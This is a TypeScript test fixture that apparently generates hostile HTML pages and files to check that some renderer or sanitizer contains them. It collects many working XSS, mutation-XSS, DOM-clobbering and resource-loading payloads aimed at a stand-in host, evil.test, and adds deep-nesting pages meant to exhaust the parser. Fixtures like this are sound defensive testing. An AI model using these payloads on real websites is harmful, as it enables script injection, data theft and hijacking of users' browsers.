/** Pages that try everything: to run a script, to fetch something, to lead the page around them away. `CODE` is what they want to run. */
const code = "top.pwned=1;parent.pwned=1;fetch('/stolen');alert(1)"
const inAttribute = code.replaceAll("'", '&#39;')
const evil = 'http://evil.test'

const snippets: Readonly<Record<string, string>> = {
  'a script': `<script>${code}</script>`,
  'a script from elsewhere': `<script src="${evil}/x.js"></script><script type="module" src="/stolen.js"></script>`,
  'a broken picture': `<img src="x" onerror="${inAttribute}">`,
  'a drawing that loads': `<svg onload="${inAttribute}"><rect onclick="${inAttribute}" width="9" height="9"/></svg>`,
  'a script in a drawing': `<svg><script>${code}</script><script href="data:,${code}"></script></svg>`,
  'a page that loads': `<body onload="${inAttribute}" onpageshow="${inAttribute}" onfocus="${inAttribute}">`,
  'a frame that is a script': `<iframe src="javascript:${inAttribute}"></iframe>`,
  'a frame with a document': `<iframe srcdoc="&lt;script&gt;${inAttribute}&lt;/script&gt;"></iframe>`,
  'a frame from elsewhere': `<iframe src="${evil}/frame"></iframe><portal src="${evil}/p"></portal><fencedframe src="${evil}/f"></fencedframe>`,
  'a set of frames': `<frameset><frame src="${evil}/frame"><frame src="javascript:${inAttribute}"></frameset>`,
  'an object': `<object data="javascript:${inAttribute}"></object><object data="${evil}/o"></object><embed src="${evil}/e"><applet code="${evil}"></applet>`,
  'an object with a document': `<object type="text/html" data="data:text/html,<script>${inAttribute}</script>"></object>`,
  'a link that is a script': `<a href="javascript:${inAttribute}">click me</a>`,
  'a link that is a script in disguise': `<a href=" java&#10;script:${inAttribute}">click me</a><a href="JaVaScRiPt:${inAttribute}">click me</a>`,
  'a link out of the frame': `<a href="${evil}/link" target="_top">click me</a>`,
  'a link to a new window': `<a href="${evil}/link" target="_blank" ping="${evil}/ping">click me</a><area href="${evil}/a">`,
  'a link to a document of its own': `<a href="data:text/html,<script>${inAttribute}</script>" target="_top">click me</a>`,
  'a link to a file': `<a href="//evil.test/file" download="x.exe">click me</a>`,
  'a form that is a script': `<form action="javascript:${inAttribute}"><button>click me</button></form>`,
  'a form out of the frame': `<form action="${evil}/form" target="_top" method="post"><input name="a" value="1"><button>click me</button></form>`,
  'a button that leads elsewhere': `<form id="f"></form><button form="f" formaction="javascript:${inAttribute}" formtarget="_top">click me</button>`,
  'a form that sends itself': `<form action="${evil}/self" id="s"><input autofocus onfocus="this.form.submit()"></form><script>s.submit()</script>`,
  'a page that leads on': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  'a page that leads to a script': `<meta http-equiv="refresh" content="0;url=javascript:${inAttribute}"><meta http-equiv="refresh" content="0;url=data:text/html,<script>${inAttribute}</script>">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; report-uri ${evil}/report"><script>${code}</script>`,
  'another base': `<base href="${evil}/" target="_top"><img src="picture"><a href="link">click me</a>`,
  'links to things to load': `<link rel="stylesheet" href="${evil}/s.css"><link rel="preload" as="script" href="${evil}/p.js"><link rel="prefetch" href="${evil}/p"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${evil}"><link rel="icon" href="${evil}/i"><link rel="modulepreload" href="${evil}/m.js"><link rel="manifest" href="${evil}/m"><link rel="prerender" href="${evil}/pr">`,
  'a style sheet that loads': `<style>@import url(${evil}/i.css);@import "${evil}/j.css";@font-face{font-family:x;src:url(${evil}/f)}body{font-family:x;background:url(${evil}/b);cursor:url(${evil}/c),auto;list-style:url(${evil}/l)}p::before{content:url(${evil}/q)}</style>`,
  'a style that loads': `<p style="background:u\\72l(${evil}/b);border-image:url(${evil}/bi) 1;mask:url(${evil}/m)">x</p><p style="background:image-set('${evil}/set' 1x)">y</p>`,
  'a style sheet that ends': `<style></style><script>${code}</script><img src=x onerror="${inAttribute}"></style>`,
  'moving pictures and sound': `<video src="${evil}/v" poster="${evil}/p" autoplay></video><audio src="${evil}/a" autoplay onerror="${inAttribute}"></audio><video><source src="${evil}/s" onerror="${inAttribute}"><track src="${evil}/t" default></video>`,
  'pictures of many sizes': `<img srcset="${evil}/1 1x, ${evil}/2 2x"><picture><source srcset="${evil}/3"><img src="ftp://evil.test/"></picture><input type="image" src="${evil}/4" onerror="${inAttribute}">`,
  'grounds of old': `<table background="${evil}/t"><tr><td background="${evil}/d">x</table><body background="${evil}/b"><bgsound src="${evil}/s"><img dynsrc="${evil}/y" lowsrc="${evil}/z">`,
  'drawings of elsewhere': `<svg><image href="${evil}/i"/><image xlink:href="${evil}/x"/><use href="${evil}/u#a"/><feImage href="${evil}/f"/><rect fill="url(${evil}/g#a)" filter="url(${evil}/h#a)" width="9" height="9"/><foreignObject><img src=x onerror="${inAttribute}"></foreignObject></svg>`,
  'a link in a drawing': `<svg width="99" height="30"><a xlink:href="javascript:${inAttribute}" href="javascript:${inAttribute}"><text y="20">click me</text></a></svg>`,
  'a drawing that moves': `<svg><a id="a"><animate attributeName="href" values="javascript:${inAttribute}" begin="0s"/><set attributeName="onclick" to="${inAttribute}"/><text y="20">click me</text></a><style>@import url(${evil}/v.css)</style></svg>`,
  'a formula': `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${inAttribute}">click me</maction><mtext><img src=x onerror="${inAttribute}"></mtext></math>`,
  'what changes when it is read twice': `<svg></p><style><a id="</style><img src=1 onerror=${inAttribute}>">`,
  'what changes without scripts': `<noscript><p title="</noscript><img src=x onerror=${inAttribute}>"></noscript>`,
  'what changes in a formula': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${inAttribute}>`,
  'what changes in a table': `<table><svg><desc><table><svg><style><title><img src=x onerror=${inAttribute}></title></style></svg></table></desc></svg></table>`,
  'a template': `<template><script>${code}</script></template><div><template shadowrootmode="open"><img src=x onerror="${inAttribute}"></template></div>`,
  'names that shadow': `<form name="addEventListener" action="${evil}/shadow"><input name="closest"><input name="getAttribute"><input name="action"><input name="reportValidity"><input name="submit"><button name="method">click me</button></form><img name="querySelectorAll"><form name="body"><input name="attributes"><input name="childNodes"><input name="localName"><input name="append"><input name="namespaceURI"></form><form id="defaultView"></form>`,
  'attributes of ours': `<a href="#" data-kubarium-to="javascript:${inAttribute}">click me</a><form data-kubarium-to="javascript:${inAttribute}" data-kubarium-method="javascript"><button>click me</button></form>`,
  'things that begin by themselves': `<details open ontoggle="${inAttribute}">x</details><marquee onstart="${inAttribute}">x</marquee><select autofocus onfocus="${inAttribute}"></select><textarea autofocus onfocus="${inAttribute}"></textarea><div popover id="p" onbeforetoggle="${inAttribute}"></div><button popovertarget="p">click me</button><p style="animation:a 1s" onanimationstart="${inAttribute}"></p><style>@keyframes a{}</style>`,
  'comments that end early': `<!--><script>${code}</script>--><!--!><img src=x onerror="${inAttribute}">--!><![CDATA[><script>${code}</script>]]><?x ><script>${code}</script>?>`,
  'text that does not end': `<xmp></xmp><script>${code}</script><title></title><img src=x onerror="${inAttribute}"><textarea></textarea><script>${code}</script><plaintext><script>${code}</script>`,
  'an element of its own': `<x-evil onclick="${inAttribute}" onfocus="${inAttribute}" tabindex="0" autofocus>click me</x-evil><b is="x-evil" contenteditable onblur="${inAttribute}">x</b>`,
  'very many elements': '<b>x</b>'.repeat(60_000),
  'very deep elements': `${'<div>'.repeat(20_000)}<script>${code}</script>`,
}

export const hostilePages = Object.entries(snippets).map(([name, html], index) => ({
  name,
  file: `page-${index}.html`,
  html: `<!doctype html><title>pwned?</title><p id="there">arrived</p>${html}`,
}))

/** Files beside them, of other kinds. */
export const hostileFiles: Readonly<Record<string, string>> = {
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${inAttribute}"><script>${code}</script><image href="${evil}/i"/></svg>`,
  'text.txt': `<script>${code}</script>`,
  'data.json': `{"a": "<script>${inAttribute}</script>"}`,
  'sheet.css': `p{color:red}</style><script>${code}</script><style>@import url(${evil}/i.css);`,
  'sheet.html': '<!doctype html><link rel="stylesheet" href="sheet.css"><p id="there">arrived</p><img src="drawing.svg">',
}
